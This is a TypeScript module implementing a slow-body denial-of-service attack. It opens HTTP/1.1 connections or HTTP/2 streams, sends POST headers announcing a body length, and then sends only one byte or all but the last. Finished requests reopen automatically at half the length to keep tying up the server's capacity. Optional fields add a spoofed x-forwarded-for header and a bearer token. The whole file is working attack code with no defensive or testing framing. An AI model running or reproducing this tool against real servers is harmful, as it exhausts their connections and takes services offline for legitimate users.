import type { Duplex } from 'node:stream';

const LEAST_BYTES = 64;
/** Maximum pause before a request is opened again. Opening all of them at once would be an attack on the processor. */
const REOPEN_MS = 2_000;

export interface Announced {
  /** The value of the header `Host`. */
  host: string;
  path?: string;
  /** Length of the announced body. */
  bytes: number;
  /** Sends all bytes except the last one, instead of one byte. */
  isAlmostComplete?: boolean;
  token?: string;
  address?: string;
}

/**
 * Requests that announce a body and never finish it. Each request that ends is opened again with half the length, so that small
 * requests use the capacity that large ones have left.
 */
export class AnnouncedBodies {
  /** Number of requests whose first bytes were sent. */
  sent = 0;
  readonly #open = new Set<Duplex>();
  #isUnderWay = true;

  /** @param connect opens a connection, or a stream of one, that has sent no head yet */
  announce(announced: Announced, connect: () => Duplex): void {
    this.#keepSending(announced.bytes, connect, (stream, length) =>
      stream.write(headOf(announced, length) + bodyOf(announced, length), () => this.sent++),
    );
  }

  /**
   * Does the same with HTTP/2 streams. @param connect opens a stream whose head announces this length; undefined while none is
   * available
   */
  announceStream(announced: Announced, connect: (length: number) => Duplex | undefined): void {
    this.#keepSending(announced.bytes, connect, (stream, length) =>
      stream.write(bodyOf(announced, length), () => this.sent++),
    );
  }

  stop(): void {
    this.#isUnderWay = false;
    for (const stream of this.#open) stream.destroy();
  }

  #keepSending(
    bytes: number,
    connect: (length: number) => Duplex | undefined,
    write: (stream: Duplex, length: number) => unknown,
  ): void {
    let length = bytes;
    const schedule = (): void => {
      if (this.#isUnderWay) setTimeout(open, REOPEN_MS * Math.random());
    };
    const open = (): void => {
      if (!this.#isUnderWay) return;
      const stream = connect(length);
      if (!stream) return schedule();
      this.#open.add(stream);
      stream.on('error', () => {});
      stream.once('data', () => stream.destroy());
      stream.once('close', () => {
        this.#open.delete(stream);
        length = length > LEAST_BYTES ? Math.floor(length / 2) : bytes;
        schedule();
      });
      write(stream, length);
    };
    open();
  }
}

const headOf = ({ host, path = '/graphql', token, address }: Announced, length: number): string =>
  [
    `POST ${path} HTTP/1.1`,
    `host: ${host}`,
    ...(address === undefined ? [] : [`x-forwarded-for: ${address}`]),
    'content-type: application/json',
    `content-length: ${length}`,
    ...(token === undefined ? [] : [`authorization: Bearer ${token}`]),
    '',
    '',
  ].join('\r\n');

const bodyOf = ({ isAlmostComplete }: Announced, length: number): string =>
  isAlmostComplete ? `{${' '.repeat(length - 2)}` : '{';
